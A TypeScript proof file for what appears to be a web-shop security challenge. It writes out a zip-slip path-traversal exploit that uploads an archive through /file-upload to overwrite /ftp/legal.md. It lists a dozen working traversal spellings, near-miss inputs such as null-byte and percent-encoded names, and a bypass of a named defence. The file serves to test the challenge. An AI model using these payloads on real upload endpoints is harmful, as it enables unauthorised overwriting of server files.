import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { type PackedFiles, zipArchive } from '@fruit/challenge-kit/zip-archive'
import { challenge } from './challenge.ts'

const MINE = '# Legal notice\n\nAll that is in this shop is free.\n'

function send(attacker: Attacker, bytes: Uint8Array<ArrayBuffer>, name = 'invoices.zip') {
  const form = new FormData()
  form.append('file', new Blob([bytes], { type: 'application/zip' }), name)
  return attacker.post('/file-upload', form)
}
/** Attaches an archive with these files to a complaint. */
const attach =
  (files: PackedFiles, name?: string): Attack =>
  (attacker) =>
    send(attacker, zipArchive(files), name)
/** Attaches an archive with one entry of this name. */
const entry = (name: string) => attach({ [name]: MINE })

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The number of parent folders is found by trying one more each time.
    await entry('../ftp/legal.md')(attacker)
    await entry('../../ftp/legal.md')(attacker)
    await attacker.get('/ftp/legal.md')
  },
  spellings: {
    'more steps up than there are folders': entry('../../../../../../../../ftp/legal.md'),
    'after a folder of its own': entry('invoices/../../../ftp/legal.md'),
    'with a step on the spot': entry('./../.././ftp/./legal.md'),
    'with doubled slashes': entry('..//..//ftp//legal.md'),
    'with a slash in front': entry('/../../ftp/legal.md'),
    'by a way round': entry('../../assets/../ftp/quarantine/../legal.md'),
    'packed without being made smaller': (attacker) =>
      send(attacker, zipArchive({ '../../ftp/legal.md': MINE }, false)),
    'behind an honest invoice': attach({ 'invoice.pdf': '%PDF-1.7\n%%EOF', '../../ftp/legal.md': MINE }),
    'as an empty file': attach({ '../../ftp/legal.md': '' }),
    'in an archive whose name has capitals': attach({ '../../ftp/legal.md': MINE }, 'INVOICES.ZIP'),
    'signed in': async (attacker) => {
      await attacker.becomeCustomer()
      await entry('../../ftp/legal.md')(attacker)
    },
    'at the second try, after one that fell short': async (attacker) => {
      await entry('legal.md')(attacker)
      await entry('../../ftp/legal.md')(attacker)
    },
  },
  nearMisses: {
    'an archive of invoices': attach({ 'invoice-1.pdf': '%PDF-1.7\n%%EOF', 'more/invoice-2.pdf': '%PDF-1.7\n%%EOF' }),
    'an archive with nothing in it': attach({}),
    'one step up too few': entry('../ftp/legal.md'),
    'an absolute path, which is put below the folder': entry('/ftp/legal.md'),
    'backslashes, which are letters on this disk': entry('..\\..\\ftp\\legal.md'),
    'percent signs, which nobody decodes': entry('%2e%2e%2f%2e%2e%2fftp%2flegal.md'),
    'a name that ends early': entry('../../ftp/legal.md\0.pdf'),
    'the name in capitals, which is another file': entry('../../ftp/LEGAL.md'),
    'another file beside it': entry('../../ftp/notice.md'),
    'the folder in its place': entry('../../ftp'),
    'a file below it': entry('../../ftp/legal.md/notice'),
    'the name of the upload itself': (attacker) =>
      send(attacker, zipArchive({ 'legal.md': MINE }), '../../ftp/legal.md.zip'),
    'the archive under the name of an invoice': attach({ '../../ftp/legal.md': MINE }, 'invoices.pdf'),
    'an archive that is damaged': (attacker) => {
      const bytes = zipArchive({ '../../ftp/legal.md': MINE }, false)
      bytes[bytes.indexOf(0x23)]! ^= 1
      return send(attacker, bytes)
    },
    'reading the notice': (attacker) => attacker.get('/ftp/legal.md'),
    'writing to it without an archive': (attacker) => attacker.put('/ftp/legal.md', { text: MINE }),
  },
  bypasses: {
    'protect-what-matters': entry('../../ftp//legal.md'),
  },
})
